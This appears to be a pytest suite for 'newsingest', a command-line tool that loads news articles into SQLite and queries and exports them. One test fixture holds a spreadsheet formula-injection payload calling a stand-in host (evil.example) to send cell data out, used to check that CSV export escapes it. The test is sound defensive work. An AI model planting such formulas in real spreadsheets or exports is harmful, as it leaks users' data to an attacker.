"""The command line: every command through click's CliRunner, plus the installed script."""

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from newsingest.cli import cli

RUNNER_ARGS = {"catch_exceptions": False}


def run(*args, expect=0):
    result = CliRunner().invoke(cli, [str(a) for a in args], **RUNNER_ARGS)
    assert result.exit_code == expect, result.output + result.stderr
    return result


def test_every_command_has_help():
    for name, command in cli.commands.items():
        assert command.help, name
        assert run(name, "--help").output.startswith("Usage: ")


def test_add_prints_one_summary_line(seeds):
    result = run("add", seeds, "--workers", "0")
    assert result.stdout == ""
    assert result.stderr.splitlines()[-1].startswith("add: 2 added, 0 updated, 0 unchanged")
    again = run("add", seeds, "--workers", "0")
    assert "0 added, 0 updated, 2 unchanged" in again.stderr


def test_db_flag_beats_environment(seeds, tmp_path, isolated_db):
    other = tmp_path / "other.db"
    run("add", seeds, "--db", other, "--workers", "0")
    assert other.exists() and not isolated_db.exists()
    run("add", seeds, "--workers", "0")
    assert isolated_db.exists()


def test_default_database_is_in_the_working_directory(seeds, tmp_path, monkeypatch):
    monkeypatch.delenv("NEWSINGEST_DB")
    monkeypatch.chdir(tmp_path)
    run("add", seeds, "--workers", "0")
    assert (tmp_path / "newsingest.db").exists()


def test_source_option_labels_articles(seeds, isolated_db):
    run("add", seeds, "--source", "rbth", "--workers", "0")
    with sqlite3.connect(isolated_db) as conn:
        assert conn.execute("SELECT DISTINCT source FROM articles").fetchall() == [("rbth",)]


def test_missing_path_is_a_usage_error_before_anything_is_written(tmp_path, isolated_db):
    result = run("add", tmp_path / "nope", expect=2)
    assert "does not exist" in result.stderr
    assert not isolated_db.exists()


@pytest.mark.parametrize("kind", ["not-sqlite", "folder", "newer-schema", "missing-folder"])
def test_unusable_database_is_a_usage_error(seeds, tmp_path, kind):
    db = tmp_path / "bad.db"
    if kind == "not-sqlite":
        db.write_text("hello")
    elif kind == "folder":
        db.mkdir()
    elif kind == "newer-schema":
        run("add", seeds, "--db", db, "--workers", "0")
        with sqlite3.connect(db) as conn:
            conn.execute(
                "INSERT INTO _sqlite_migrations (migration_set, name, applied_at) "
                "VALUES ('newsingest', 'm999_future', 'x')"
            )
    else:
        db = tmp_path / "no" / "such" / "x.db"
    result = run("add", seeds, "--db", db, expect=2)
    assert result.stderr.strip().splitlines()[-1].startswith("Error: ")
    assert "Traceback" not in result.output


def test_failed_files_exit_1_and_are_listed_in_status(seeds):
    (seeds / "empty.txt").write_bytes(b"")
    result = run("add", seeds, "--workers", "0", expect=1)
    assert any(
        line.startswith(str(seeds / "empty.txt") + ": failed: ")
        for line in result.stderr.splitlines()
    )
    status = run("status").stdout
    assert "2 articles" in status and "empty.txt: failed:" in status
    assert "#1 add" in status and "exit 1" in status


def test_summary_json_and_log_file(seeds, tmp_path):
    (seeds / "empty.txt").write_bytes(b"")
    summary, log = tmp_path / "s.json", tmp_path / "run.log"
    run(
        "add", seeds, "--workers", "0", "--summary-json", summary, "--log-file", log, "-q", expect=1
    )
    data = json.loads(summary.read_text())
    assert data["added"] == 2 and data["failed"] == 1 and data["exit_code"] == 1
    assert data["command"] == "add" and data["run"] == 1
    text = log.read_text()
    assert "empty.txt: failed:" in text and "add: 2 added" in text


def test_query_formats(seeds):
    run("add", seeds, "--workers", "0")
    table = run("query", "Aleppo").stdout
    assert "Tak Sama" in table
    rows = json.loads(run("query", "Aleppo", "--format", "json").stdout)
    assert rows[0]["id"] == 2 and "**Aleppo**" in rows[0]["snippet"]
    lines = run("query", "ISIS", "--format", "jsonl").stdout.splitlines()
    assert len(lines) == 2 and all(json.loads(line)["title"] for line in lines)
    parsed = list(csv.DictReader(io.StringIO(run("query", "ISIS", "--format", "csv").stdout)))
    assert {r["id"] for r in parsed} == {"1", "2"}
    assert run("query", "ISIS", "--limit", "1", "--format", "jsonl").stdout.count("\n") == 1


def test_query_filters(seeds):
    run("add", seeds, "--workers", "0")
    assert run("query", "ISIS", "--source", "seeds", "--format", "jsonl").stdout.count("\n") == 2
    result = run("query", "ISIS", "--source", "other", expect=2)
    assert "--source other: no article has it (known: seeds)" in result.stderr
    result = run("query", "ISIS", "--lang", "xx", expect=2)
    assert "--lang xx: no article has it (known: id)" in result.stderr
    result = run("query", "ISIS", "--since", "March 2017", expect=2)
    assert "YYYY" in result.stderr


@pytest.mark.parametrize("bound", ["2026-13-01", "2026-00", "2026-02-30", "2025-04-31", "0000"])
@pytest.mark.parametrize("option", ["--since", "--until"])
def test_date_bounds_off_the_calendar_are_refused(seeds, option, bound):
    run("add", seeds, "--workers", "0")
    result = run("query", "ISIS", option, bound, expect=2)
    assert f"{bound} is not a date on the calendar" in result.stderr
    assert "not a date on the calendar" in run("stats", option, bound, expect=2).stderr


@pytest.mark.parametrize(
    ("since", "until"), [("2018", "2017"), ("2017-12", "2017-11-30"), ("2017-03-02", "2017-03-01")]
)
def test_a_since_after_the_until_is_refused(seeds, since, until):
    run("add", seeds, "--workers", "0")
    for command in ("query", "export", "stats"):
        result = run(command, "--since", since, "--until", until, expect=2)
        assert f"--since {since} is after --until {until}" in result.stderr


@pytest.mark.parametrize(
    ("since", "until"), [("2017", "2017"), ("2017-11", "2017"), ("2017", "2017-11-16")]
)
def test_a_since_within_the_until_period_is_taken(tmp_path, since, until):
    record = {"title": "Banjir", "text": "Banjir melanda kota.", "date": "2017-11-16"}
    (tmp_path / "a.json").write_text(json.dumps(record), encoding="utf-8")
    run("add", tmp_path / "a.json", "--workers", "0")
    exported = run("export", "--since", since, "--until", until).stdout
    assert [json.loads(line)["published"] for line in exported.splitlines()] == ["2017-11-16"]


@pytest.mark.parametrize("bound", ["2024-02-29", "2026-12", "2026", "2026-04-30"])
def test_date_bounds_on_the_calendar_are_taken(seeds, bound):
    run("add", seeds, "--workers", "0")
    run("query", "ISIS", "--since", bound)


@pytest.mark.parametrize(
    "words",
    [
        ["e-mail"],
        ['"'],
        ["AND"],
        ["NOT", "OR"],
        ["NEAR(ISIS"],
        ["*"],
        ["ISIS*"],
        ["--", "-ISIS"],
        ["title:ISIS"],
        ["Abu Kamal"],
        ["'"],
        ["(ISIS"],
    ],
)
def test_hostile_words_never_fail(seeds, words):
    run("add", seeds, "--workers", "0")
    result = CliRunner().invoke(cli, ["query", *words, "--format", "json"], **RUNNER_ARGS)
    # Found (or not), or a one-line reason: never a traceback.
    assert result.exit_code in (0, 2), result.output
    if result.exit_code == 2:
        assert result.stderr.count("\n") == 1 and result.stderr.startswith("Error: ")


def test_query_widens_words_and_says_how(seeds):
    run("add", seeds, "--workers", "0")
    result = run("query", "serang", "--explain", "--format", "json")
    assert "serang: serang" in result.stderr and "menyerang" in result.stderr
    rows = json.loads(result.stdout)
    assert rows and "menyerang" in rows[0]["searched"]["serang"]
    assert json.loads(run("query", "serang", "--exact", "--format", "json").stdout) == []


@pytest.mark.parametrize("words", [[], [""], ["  "]])
def test_an_empty_query_is_a_usage_error(seeds, words):
    run("add", seeds, "--workers", "0")
    result = run("query", *words, expect=2)
    assert "nothing to search for" in result.stderr


def test_a_query_of_exclusions_only_says_why(seeds):
    run("add", seeds, "--workers", "0")
    result = run("query", "--", "-ISIS", expect=2)
    assert "needs a word to find" in result.stderr


def test_place_alone_lists_articles_and_facets_count_them(seeds):
    run("add", seeds, "--workers", "0")
    rows = json.loads(run("query", "--place", "Syria", "--format", "json").stdout)
    assert len(rows) == 2
    facets = json.loads(run("query", "ISIS", "--facets", "--format", "json").stdout)
    assert facets["source"] == {"seeds": 2} and facets["language"] == {"id": 2}
    text = run("query", "ISIS", "--facets").stdout
    assert text.startswith("source:\n  2  seeds\n")


def test_lower_case_or_gives_a_hint(seeds):
    run("add", seeds, "--workers", "0")
    result = run("query", "Aleppo", "or", "Mosulxyz")
    assert "hint: operators are upper case (OR)" in result.stderr


def test_malformed_raw_query_is_a_one_line_error_with_status_2(seeds):
    run("add", seeds, "--workers", "0")
    result = run("query", "--raw", "ISIS AND", expect=2)
    assert result.stderr.startswith("Error: malformed full-text query")
    assert "fts5.html" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert "ISIS" in run("query", "--raw", "ISIS OR Aleppo", "--format", "json").stdout


def test_read_commands_on_a_missing_database(tmp_path):
    result = run("query", "x", "--db", tmp_path / "none.db", expect=2)
    assert "no such database" in result.stderr
    assert not (tmp_path / "none.db").exists()


def test_show_prints_everything_with_removed_text(seeds):
    run("add", seeds, "--workers", "0")
    text = run("show", "2").stdout
    assert text.startswith("Article 2\n")
    for heading in ("Files:", "Body:", "Dates (", "Places (", "URLs (", "Removed by cleaning ("):
        assert heading in text
    data = json.loads(run("show", "2", "--format", "json").stdout)
    assert data["id"] == 2 and data["files"][0]["path"].endswith("002_48cacc80b9f457c0.txt")
    assert "no article with id 99" in run("show", "99", expect=1).stderr


def test_export_contract(seeds):
    run("add", seeds, "--workers", "0")
    lines = run("export").stdout.splitlines()
    assert len(lines) == 2
    first = json.loads(lines[0])
    assert list(first) == [
        "id",
        "files",
        "source",
        "title",
        "body",
        "language",
        "language_probability",
        "published",
        "published_precision",
        "published_method",
        "url",
        "site_name",
        "author",
        "dates",
        "places",
        "urls",
        "removed",
        "credit",
        "cluster_id",
        "cluster_size",
        "cluster_similarity",
    ]
    assert first["files"] == [str(seeds / "000_711718d73377f876.txt")]
    for name, keys in {
        "dates": ["field", "start", "text", "value", "precision", "kind"],
        "places": [
            "field",
            "start",
            "text",
            "name",
            "country_code",
            "latitude",
            "longitude",
            "geonameid",
            "kind",
        ],
        "urls": ["field", "start", "text", "url", "domain"],
        "removed": ["start", "text", "reason"],
    }.items():
        for item in first[name]:
            assert list(item) == keys
            if "field" in item:
                assert first[item["field"]][item["start"] :].startswith(item["text"])
    assert run("export", "--match", "Aleppo").stdout.count("\n") == 1
    assert run("export", "--source", "nope").stdout == ""
    rows = list(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
    assert [r["id"] for r in rows] == ["1", "2"] and json.loads(rows[0]["files"])


def _corpus_tables(db) -> dict[str, list[tuple]]:
    """Every table a re-import must reproduce, as rows without ids, file paths or times."""
    import sqlite3

    conn = sqlite3.connect(db)
    article_columns = (
        "source, title, body, language, language_probability, published, "
        "published_precision, published_method, url, site_name, author, word_count, content_hash"
    )
    tables = {"articles": conn.execute(f"SELECT {article_columns} FROM articles ORDER BY id")}
    for table, columns in {
        "dates": "field, start, text, value, precision, kind",
        "places": "field, start, text, name, country_code, latitude, longitude, geonameid, kind",
        "urls": "field, start, text, url, domain",
        "removed": "start, text, reason",
    }.items():
        prefixed = ", ".join(f"t.{column.strip()}" for column in columns.split(","))
        tables[table] = conn.execute(
            f"SELECT a.content_hash, {prefixed} FROM {table} t JOIN articles a "
            "ON a.id = t.article_id ORDER BY a.id, t.id"
        )
    tables = {name: rows.fetchall() for name, rows in tables.items()}
    conn.close()
    return tables


def test_export_round_trips_through_add(seeds, tmp_path, isolated_db):
    # An untitled article, and one whose source and date come from a sidecar.
    (seeds / "untitled.txt").write_text(
        "\nWarga Desa Sukamaju di Kabupaten Bogor, Jawa Barat, memperingati hari jadi desa "
        "pada 17 Agustus 2019 dengan lomba dan doa bersama.\n",
        encoding="utf-8",
    )
    (seeds / "meta.jsonl").write_text(
        json.dumps(
            {
                "file": "002_48cacc80b9f457c0.txt",
                "source": "rbth",
                "url": "https://id.rbth.com/2017/11/aleppo",
                "published_iso": "2017-11-16T08:00",
            }
        )
        + "\n",
        encoding="utf-8",
    )
    run("add", seeds, "--workers", "0")
    exported = tmp_path / "again" / "corpus.jsonl"
    exported.parent.mkdir()
    exported.write_text(run("export").stdout)
    copy = tmp_path / "copy.db"
    run("add", exported, "--db", copy, "--workers", "0")
    original, again = _corpus_tables(isolated_db), _corpus_tables(copy)
    assert len(original["articles"]) == 3
    assert {row[0] for row in original["articles"]} == {"seeds", "rbth"}
    assert "" in {row[1] for row in original["articles"]}  # the untitled one
    assert ("2017-11-16", "day", "metadata") in {row[5:8] for row in original["articles"]}
    for table, rows in original.items():
        assert again[table] == rows, table
    # reprocessing the copy changes nothing either
    run("reprocess", "--db", copy, "--workers", "0")
    assert _corpus_tables(copy) == original


def test_reprocess_from_stored_raw_text(seeds, isolated_db):
    run("add", seeds, "--workers", "0")
    before = run("export").stdout
    shutil.rmtree(seeds)  # reprocessing needs no source files
    with sqlite3.connect(isolated_db) as conn:
        conn.execute("DELETE FROM places")
        conn.execute("UPDATE articles SET language = NULL")
    result = run("reprocess", "--workers", "0")
    assert result.stderr.splitlines()[-1].startswith("reprocess: ")
    assert run("export").stdout == before


def test_status_json(seeds):
    run("add", seeds, "--workers", "0")
    data = json.loads(run("status", "--format", "json").stdout)
    assert data["articles"] == 2 and data["runs"][0]["added"] == 2


def _console_script():
    script = shutil.which("newsingest", path=os.path.dirname(sys.executable))
    if script is None:
        pytest.skip("newsingest is not installed as a console script")
    return script


def test_installed_console_script_end_to_end(seeds, tmp_path):
    script = _console_script()
    db = tmp_path / "sub.db"
    env = {**os.environ, "NEWSINGEST_DB": str(db)}
    added = subprocess.run([script, "add", str(seeds)], capture_output=True, text=True, env=env)
    assert added.returncode == 0, added.stderr
    assert added.stderr.strip().splitlines()[-1].startswith("add: 2 added")
    found = subprocess.run(
        [script, "query", "Aleppo", "--format", "jsonl"], capture_output=True, text=True, env=env
    )
    assert found.returncode == 0 and json.loads(found.stdout.splitlines()[0])["id"] == 2
    module = subprocess.run(
        [sys.executable, "-m", "newsingest", "--version"], capture_output=True, text=True, env=env
    )
    assert module.returncode == 0 and "version" in module.stdout


def test_force_reads_unchanged_files_again(seeds, monkeypatch):
    from newsingest import ingest

    run("add", seeds, "--workers", "0")
    reads = []
    real = ingest._read_bounded
    monkeypatch.setattr(ingest, "_read_bounded", lambda *a: reads.append(a) or real(*a))
    run("add", seeds, "--workers", "0")
    assert reads == []
    forced = run("add", seeds, "--workers", "0", "--force")
    assert len(reads) == 2
    assert "0 added, 0 updated, 2 unchanged" in forced.stderr


@pytest.mark.parametrize("option", ["--log-file", "--summary-json"])
def test_unwritable_log_or_summary_is_a_usage_error_before_anything(
    seeds, tmp_path, option, isolated_db
):
    result = run("add", seeds, option, tmp_path / "no" / "such" / "file", expect=2)
    assert option in result.stderr and "Traceback" not in result.output
    assert not isolated_db.exists()


def test_workers_option_is_honoured(seeds, monkeypatch):
    from newsingest import ingest

    seen = []
    real = ingest.add
    monkeypatch.setattr(
        ingest,
        "add",
        lambda store, paths, options, *a, **k: (
            seen.append(options.workers),
            real(store, paths, options, *a, **k),
        )[1],
    )
    run("add", seeds, "--workers", "0")
    run("add", seeds, "--workers", "1", "--force")
    assert seen == [0, 1]


def _heavy_modules_loaded(command: list[str], db, expect: str = "") -> str:
    """Which heavy modules a fresh process has imported after running ``command`` in-process."""
    code = (
        "import sys\n"
        "from click.testing import CliRunner\n"
        "from newsingest.cli import cli\n"
        f"result = CliRunner().invoke(cli, {command!r})\n"
        "assert result.exit_code == 0, result.output\n"
        f"assert {expect!r} in result.output, result.output\n"
        "heavy = ('numpy', 'newsingest.pipeline', 'newsingest.dates', 'langdetect',\n"
        "         'langdetect_rs', 'datasketch')\n"
        "print(sorted(m for m in heavy if m in sys.modules))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        env={**os.environ, "NEWSINGEST_DB": str(db)},
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


@pytest.mark.parametrize("command", [["--help"], ["status"], ["query", "ISIS"]])
def test_help_status_and_query_do_not_load_the_pipeline(seeds, isolated_db, command):
    # numpy, the language models and the date scanner cost ~0.2 s to import.
    run("add", seeds, "--workers", "0")
    assert _heavy_modules_loaded(command, isolated_db) == "[]"


@pytest.mark.parametrize("workers", ["0", "2"])
def test_an_unchanged_re_add_does_not_load_the_pipeline(seeds, isolated_db, workers):
    # A cron run that finds nothing new pays for Python, the database and the walk alone.
    run("add", seeds, "--workers", "0")
    command = ["add", str(seeds), "--workers", workers]
    assert _heavy_modules_loaded(command, isolated_db, expect="2 unchanged") == "[]"


def test_an_import_does_not_load_datasketch(tmp_path, isolated_db):
    # The reprint signatures draw datasketch's permutations themselves: no scipy in a run.
    (tmp_path / "a.txt").write_text("Judul\n\n" + "Kalimat yang cukup panjang. " * 20)
    found = _heavy_modules_loaded(["add", str(tmp_path), "--workers", "0"], isolated_db)
    assert "datasketch" not in found and "numpy" in found


def test_a_title_only_article_is_said_at_add_and_listed_by_status(seeds):
    (seeds / "only_title.txt").write_text("Banjir melanda Jakarta hari ini\n\n\n")
    result = run("add", seeds, "--workers", "0")
    warning = f"{seeds / 'only_title.txt'}: title only: no body text after cleaning"
    assert any(line.startswith(warning) for line in result.stderr.splitlines())
    assert result.stderr.count("title only") == 1  # the seeds have bodies
    status = run("status").stdout
    assert "Articles with a title only, no body text (1):" in status
    assert "only_title.txt: Banjir melanda Jakarta hari ini" in status
    data = json.loads(run("status", "--format", "json").stdout)
    assert data["title_only"] == 1
    assert data["title_only_articles"][0]["title"] == "Banjir melanda Jakarta hari ini"
    again = run("add", seeds, "--workers", "0")
    assert "title only" not in again.stderr  # said once; status keeps listing it
    assert "only_title.txt: Banjir" in run("status").stdout


def test_status_says_nothing_of_title_only_articles_when_there_are_none(seeds):
    run("add", seeds, "--workers", "0")
    assert "title only" not in run("status").stdout
    assert json.loads(run("status", "--format", "json").stdout)["title_only"] == 0


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    tmp_path, isolated_db
):
    folder = tmp_path / "scraped"
    folder.mkdir()
    (folder / "a.txt").write_text(
        '=HYPERLINK("http://evil.example/?d="&A1,"Harga beras")\n\n'
        "@SUM(1+1) harga beras naik di pasar induk Cipinang menjelang akhir pekan, kata "
        "pedagang beras kepada wartawan pada hari Senin.\n",
        encoding="utf-8",
    )
    run("add", folder, "--workers", "0")
    exported = next(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
    assert exported["title"] == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Harga beras")'
    assert exported["body"].startswith("'@SUM(1+1) harga beras")
    found = next(csv.DictReader(io.StringIO(run("query", "beras", "--format", "csv").stdout)))
    assert found["title"].startswith("'=HYPERLINK(")
    # JSON output is for programs and keeps the text as it is
    assert json.loads(run("export").stdout)["title"].startswith("=HYPERLINK(")


def test_spreadsheet_safe_numbers_and_plain_text_unchanged():
    from newsingest.render import spreadsheet_safe

    assert spreadsheet_safe("-6.2146") == "-6.2146"
    assert spreadsheet_safe("+62") == "+62"
    assert spreadsheet_safe("Jakarta - Polisi") == "Jakarta - Polisi"
    assert spreadsheet_safe("- butir pertama") == "'- butir pertama"
    assert spreadsheet_safe("-1+1") == "'-1+1"
    assert spreadsheet_safe("\t=1") == "'\t=1"


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1))
def test_a_csv_text_cell_reads_back_as_written_or_apostrophed_and_never_as_a_formula(text):
    from newsingest.render import csv_rows

    written = "".join(csv_rows([{"t": text}], ["t"]))
    cell = list(csv.reader(io.StringIO(written, newline="")))[1][0]
    assert cell in (text, "'" + text)
    assert cell == text or text[0] in "=+-@\t\r"
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) is not None


def _flood_stories(tmp_path, count: int, dates: dict[int, str]):
    """A folder of ``count`` short stories; a sidecar dates the ones ``dates`` names."""
    folder = tmp_path / "news"
    folder.mkdir()
    for n in range(count):
        (folder / f"{n}.txt").write_text(
            f"Banjir nomor {n}\n\nBanjir melanda desa nomor {n} setelah hujan deras semalam, "
            "kata warga yang mengungsi.\n",
            encoding="utf-8",
        )
    (folder / "meta.csv").write_text(
        "file,date\n" + "".join(f"{n}.txt,{day}\n" for n, day in dates.items())
    )
    run("add", folder, "--workers", "0")
    return folder


def test_a_date_bound_says_how_many_matches_it_leaves_out_for_having_no_date(
    tmp_path, isolated_db
):
    # two dated by the sidecar, two with no date anywhere
    folder = _flood_stories(tmp_path, 4, {0: "2017-05-02", 1: "2019-01-10"})
    note = "note: 2 more matching articles have no publication date; --since/--until leave them out"
    bounded = run("query", "banjir", "--since", "2018")
    assert bounded.stderr.splitlines() == ["1 shown of 1 matching", note]
    assert note in run("query", "banjir", "--until", "2030", "--format", "jsonl").stderr
    assert note in run("query", "--since", "1900", "--facets").stderr
    exported = run("export", "--since", "1900", "--match", "banjir")
    assert exported.stdout.count("\n") == 2 and exported.stderr.splitlines() == [note]
    # no bound, nothing left out; none undated among the matches, nothing to say
    assert "no publication date" not in run("query", "banjir").stderr
    (folder / "meta.csv").write_text(
        "file,date\n" + "".join(f"{n}.txt,2017-05-0{n + 1}\n" for n in range(4))
    )
    run("add", folder, "--workers", "0")
    assert "no publication date" not in run("query", "banjir", "--since", "2018").stderr


def test_stats_with_a_date_bound_says_how_many_articles_it_left_out_undated(
    tmp_path, isolated_db
):
    _flood_stories(tmp_path, 3, {0: "2017-05-02"})
    # "publication date known: 100 %" of the articles a bound keeps: the others are named
    result = run("stats", "--since", "1900", "--format", "json")
    assert json.loads(result.stdout)["articles"] == 1
    assert result.stderr.splitlines() == [
        "note: 2 more matching articles have no publication date; --since/--until leave them out"
    ]
    assert "no publication date" not in run("stats").stderr
